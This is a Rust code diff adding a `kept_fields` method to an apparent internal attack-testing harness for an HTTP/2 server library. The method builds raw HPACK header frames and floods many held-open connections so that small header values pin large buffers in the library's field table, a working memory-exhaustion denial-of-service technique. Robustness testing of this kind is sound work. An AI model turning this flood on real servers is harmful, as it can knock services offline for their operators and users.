@@ -231,6 +231,29 @@ impl Attacker {
         sleep(HOLD).await;
     }
 
+    /// Opens connections that each have a hundred heads of 14 KB, whose answers are read, and then stay open. A value of
+    /// a byte in each head is to stay in the library's table of fields, with the buffer around it.
+    pub(crate) async fn kept_fields(&self, connections: usize) {
+        // `POST http:/`, then `:authority: a` for the table, and a long field that stays out of it.
+        let mut head = b"\x83\x86\x84\x41\x01a\x00\x01f\x7f\xa8\x6c".to_vec();
+        head.resize(head.len() + 13_991, b'x');
+        let mut bytes = raw::http2_preface_without_windows();
+        bytes.extend((0..100).flat_map(|call| raw::http2_frame(1, 5, 2 * call + 1, &head)));
+        let bytes: Arc<[u8]> = bytes.into();
+        let mut floods = JoinSet::new();
+        for _ in 0..connections {
+            let (attacker, bytes) = (self.clone(), bytes.clone());
+            floods.spawn(async move {
+                let Some(stream) = attacker.connect().await else { return };
+                let (mut reading, mut writing) = stream.into_split();
+                let mut nowhere = tokio::io::sink();
+                let reads = timeout(HOLD, tokio::io::copy(&mut reading, &mut nowhere));
+                let _ = tokio::join!(reads, timeout(EXCHANGE, writing.write_all(&bytes)));
+            });
+        }
+        floods.join_all().await;
+    }
+
     /// Sends requests whose lists are longer than the messages around them, which a decoder notices last: reports of
     /// ten million envelopes, and queries from a cursor of a million entries.
     pub(crate) async fn false_lengths(&self) -> usize {
